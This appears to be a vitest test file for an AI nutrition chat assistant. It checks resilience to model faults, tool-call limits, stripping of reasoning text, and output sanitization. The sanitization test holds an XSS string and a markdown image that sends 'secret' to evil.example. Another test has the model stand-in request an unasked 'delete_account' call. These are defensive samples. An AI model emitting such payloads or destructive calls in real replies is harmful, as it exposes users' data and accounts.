import { STRESS, times, within } from '@labelwise/domain/testing';
import { sayEnglish } from '@labelwise/messages/english';
import { describe, expect, it } from 'vitest';
import { MODEL_FAULTS, type ModelFault, startModelStandIn } from '../../../adapters/ai-model/testing/model-stand-in.ts';
import { createTestApp, startTestApp } from '../../../testing/test-app.ts';
import { ask, begin, eventsOf, messagesOf, premiumMember, startWithModel, stream } from './testing/chatting.ts';

const CLOSED_PORT = 'http://127.0.0.1:9/v1';
/** These only end by our own time limits. */
const SILENT: readonly ModelFault[] = ['hang', 'drip'];
/** Shorter than in production, whose own limits `npm run stress` uses; long where a busy machine may need time for the first words. */
const shortLimits = (fault: ModelFault) => ({ first: SILENT.includes(fault) ? 2500 : 25_000, next: 1000, all: 60_000 });
const HALF: readonly ModelFault[] = ['reset mid-stream', 'truncated stream', 'stream without an end', 'stream that stands still'];

async function meet(fault: ModelFault): Promise<void> {
  // Made and ended here: these run side by side.
  const model = await startModelStandIn();
  const test = await createTestApp('sqlite', { env: { AI_BASE_URL: model.url }, ...(!STRESS && { modelTimeLimits: shortLimits(fault) }) });
  const ana = await premiumMember(test, 'ana');
  const id = await begin(ana);
  model.misbehave(fault);
  const start = performance.now();
  const answer = ask(ana, id, 'What has fiber?');
  // Others are served meanwhile.
  if (SILENT.includes(fault))
    for (let turn = 0; turn < 20; turn += 1) expect((await ana.as('GET', '/api/ai/conversations')).status).toBe(200);
  const { status, json } = await answer;
  expect(performance.now() - start).toBeLessThan(within(30_000));
  expect([status, json]).toEqual([502, { error: sayEnglish('errors.assistant_failed'), code: 'assistant_failed' }]);
  expect((await messagesOf(ana, id)).at(-1)).toMatchObject({
    status: 'failed',
    content: HALF.includes(fault) ? `Oats are \n\n${sayEnglish('guide.reply_broken_off')}` : sayEnglish('errors.assistant_failed'),
  });
  expect(test.logs()).not.toContain('What has fiber?');
  expect(model.calls).toHaveLength(1);
  await model.close();
  await test.close();
}

describe('a model that misbehaves', () => {
  it.concurrent.each(MODEL_FAULTS.filter((fault) => fault !== 'endless stream'))(
    '%s: one sentence within 30 seconds, and a transcript that says so',
    { timeout: 1_800_000 },
    async (fault) => {
      // Four at a time, each with a service of its own: after a few failures one would not ask any more.
      for (let left = times(1, 20); left > 0; left -= 4) await Promise.all(Array.from({ length: Math.min(left, 4) }, () => meet(fault)));
    },
  );

  it('an endpoint that is not there is a failure like any other', async () => {
    const test = await startTestApp('sqlite', { env: { AI_BASE_URL: CLOSED_PORT } });
    const ana = await premiumMember(test, 'ana');
    expect((await ask(ana, await begin(ana), 'Hello')).json.code).toBe('assistant_failed');
  });

  it('a reply without end is cut where replies end', async () => {
    const { test, model } = await startWithModel('sqlite');
    const ana = await premiumMember(test, 'ana');
    model.misbehave('endless stream');
    const { json } = await ask(ana, await begin(ana), 'Hello');
    expect(json.response.length).toBeGreaterThan(12_000);
    expect(json.response.length).toBeLessThan(14_000);
  });

  it('after five failures in a row the endpoint is left alone for a while', async () => {
    const { test, model } = await startWithModel('sqlite');
    const ana = await premiumMember(test, 'ana');
    model.misbehave('html');
    const ids = await Promise.all([1, 2, 3, 4, 5, 6, 7].map(() => begin(ana)));
    for (const id of ids) expect((await ask(ana, id, 'Hello')).status).toBe(502);
    expect(model.calls).toHaveLength(5);
  });

  it('what it calls in vain or without end stops after six rounds, and nothing it invents is run', async () => {
    const { test, model } = await startWithModel('sqlite');
    const ana = await premiumMember(test, 'ana');
    model.script((_call, round) =>
      round === 0
        ? {
            calls: [
              { name: 'delete_account', arguments: { userId: ana.id } },
              { name: 'product', arguments: '{"barcode": "no' },
              { name: 'search_products', arguments: { text: 7 } },
            ],
          }
        : { calls: [{ name: 'recent_scans', arguments: { limit: 5 } }] },
    );
    expect((await ask(ana, await begin(ana), 'What should I eat?')).status).toBe(502);
    expect(model.calls).toHaveLength(6);
    expect(model.calls.at(-1)?.toolChoice).toBe('none');
    model.script((_call, round) =>
      round < 2 ? { calls: [{ name: 'recent_scans', arguments: { limit: 5 } }] } : { text: ['You have ', 'no scans.'] },
    );
    expect((await ask(ana, await begin(ana), 'What did I scan?')).json.response).toBe('You have no scans.');
    expect((await ana.as('GET', '/api/auth/user')).status).toBe(200);
  });

  it('text before and after a tool call is separate', async () => {
    const { test, model } = await startWithModel('sqlite');
    const ana = await premiumMember(test, 'ana');
    model.script((_call, round) =>
      round === 0 ? { text: ['Let me ', 'look.'], calls: [{ name: 'recent_scans', arguments: { limit: 5 } }] } : { text: ['No scans.'] },
    );
    expect((await ask(ana, await begin(ana), 'What did I scan?')).json.response).toBe('Let me look.\n\nNo scans.');
  });

  it('reasoning that a model prints is no part of the reply', async () => {
    const { test, model } = await startWithModel('sqlite');
    const ana = await premiumMember(test, 'ana');
    model.script(() => ({ text: ['<thi', 'nk>secret plan</th', 'ink>', 'Oats.'] }));
    expect((await ask(ana, await begin(ana), 'Hello')).json.response.trim()).toBe('Oats.');
  });

  it('pictures, raw HTML and scripts in a reply are removed before anyone sees or stores them', async () => {
    const { test, model } = await startWithModel('sqlite');
    const ana = await premiumMember(test, 'ana');
    const id = await begin(ana);
    const nasty = `<script>alert(1)</script>![x](https://evil.example/?d=secret) [a](javascript:alert(1)) [b](data:text/html,x) ${Array.from({ length: 1000 }, (_, at) => `[^${at}]`).join('')}`;
    model.script(() => ({ text: nasty.match(/[^]{1,7}/gu) ?? [] }));
    const events = await eventsOf(stream(test, ana, id, 'Hello'));
    const shown = events
      .filter(({ event }) => event === 'delta')
      .map(({ data }) => data.text)
      .join('');
    expect(shown).toMatch(/^alert\(1\)x \[a\]\(\) \[b\]\(\) /u);
    expect(shown).not.toMatch(/evil|javascript|data:|<script|\[\^/u);
    expect((await messagesOf(ana, id)).at(-1)?.content).toBe(shown);
  });

  it('more than thirty questions a minute from one address are too many', async () => {
    const { test } = await startWithModel('sqlite');
    const ana = await premiumMember(test, 'ana');
    for (let turn = 0; turn < 30; turn += 1) expect((await ask(ana, 'nothing-here', 'Hello')).status).toBe(404);
    const refused = await ask(ana, 'nothing-here', 'Hello');
    expect([refused.status, refused.json.code]).toEqual([429, 'too_many_requests']);
    expect(Number(refused.headers['retry-after'])).toBeGreaterThan(0);
  });
});
